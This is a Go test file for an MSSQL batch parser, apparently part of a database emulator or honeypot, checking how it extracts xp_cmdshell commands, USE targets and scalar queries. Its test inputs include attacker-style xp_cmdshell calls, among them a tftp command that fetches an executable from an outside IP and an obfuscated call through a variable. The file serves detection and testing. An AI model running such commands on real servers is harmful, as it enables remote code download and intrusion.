package mssql

import (
	"slices"
	"strings"
	"testing"
)

var sqlCases = []struct {
	in     string
	scalar string
	use    string
	shell  []string
	hidden int
}{
	{in: "select @@version", scalar: "@@version"},
	{in: "SELECT @@VERSION\r\n", scalar: "@@version"},
	{in: "  select\tdb_name ( ) ;", scalar: "db_name()"},
	{in: "select system_user", scalar: "system_user"},
	{in: "select @@version, @@servername"},
	{in: "select * from sysobjects"},
	{in: "use msdb", use: "msdb"},
	{in: "USE [Northwind];\r\n", use: "Northwind"},
	{in: "use master; select 1"},
	{in: "exec master..xp_cmdshell 'dir c:\\'", shell: []string{`dir c:\`}},
	{in: "EXEC master.dbo.xp_cmdshell N'echo it''s here > x.txt'", shell: []string{"echo it's here > x.txt"}},
	{in: `xp_cmdshell "tftp -i 198.51.100.7 GET x.exe"`, shell: []string{"tftp -i 198.51.100.7 GET x.exe"}},
	{in: "exec xp_cmdshell @command_string = 'ver'; exec xp_cmdshell 'ipconfig'", shell: []string{"ver", "ipconfig"}},
	{in: "declare @c varchar(99) set @c='dir' exec master..xp_cmdshell @c", hidden: 1},
	{in: "exec xp_cmdshellx 'dir'"},
	{in: "exec xp_cmdshell 'unterminated", shell: []string{"unterminated"}},
	{in: "select 'xp_cmdshell'", shell: []string{""}}, // a literal's end read as a call: harmless
	{in: "exec master..xp_cmdshell ''", shell: []string{""}},
	{in: "İİ xp_cmdshell 'dir'", shell: []string{"dir"}},
}

func TestParseBatch(t *testing.T) {
	for _, tc := range sqlCases {
		b := ParseBatch(tc.in)
		if b.Scalar != tc.scalar || b.Use != tc.use || !slices.Equal(b.Shell, tc.shell) || b.Hidden != tc.hidden {
			t.Errorf("%q: got scalar %q use %q shell %q hidden %d; want %q %q %q %d", tc.in, b.Scalar, b.Use, b.Shell, b.Hidden,
				tc.scalar, tc.use, tc.shell, tc.hidden)
		}
	}
}

func TestShellCallsAreBounded(t *testing.T) {
	b := ParseBatch(strings.Repeat("exec xp_cmdshell 'dir' ", 100))
	if len(b.Shell) != maxShellCalls {
		t.Errorf("%d calls kept, want %d", len(b.Shell), maxShellCalls)
	}
	b = ParseBatch("exec xp_cmdshell '" + strings.Repeat("a", 3*maxShellLine) + "'")
	if len(b.Shell) != 1 || len(b.Shell[0]) != maxShellLine {
		t.Errorf("long literal kept as %d bytes, want %d", len(b.Shell[0]), maxShellLine)
	}
}

func TestOutputRows(t *testing.T) {
	s := func(v string) *string { return &v }
	long := strings.Repeat("x", 300)
	for _, tc := range []struct {
		in   string
		want []*string
	}{
		{"", []*string{nil}},
		{"a\r\n\r\nb\r\n", []*string{s("a"), nil, s("b"), nil}},
		{long, []*string{s(long[:255]), s(long[255:]), nil}},
	} {
		got := outputRows(tc.in)
		if !slices.EqualFunc(got, tc.want, func(a, b *string) bool { return a == nil && b == nil || a != nil && b != nil && *a == *b }) {
			t.Errorf("outputRows(%q): got %d rows, want %d", tc.in, len(got), len(tc.want))
		}
	}
}
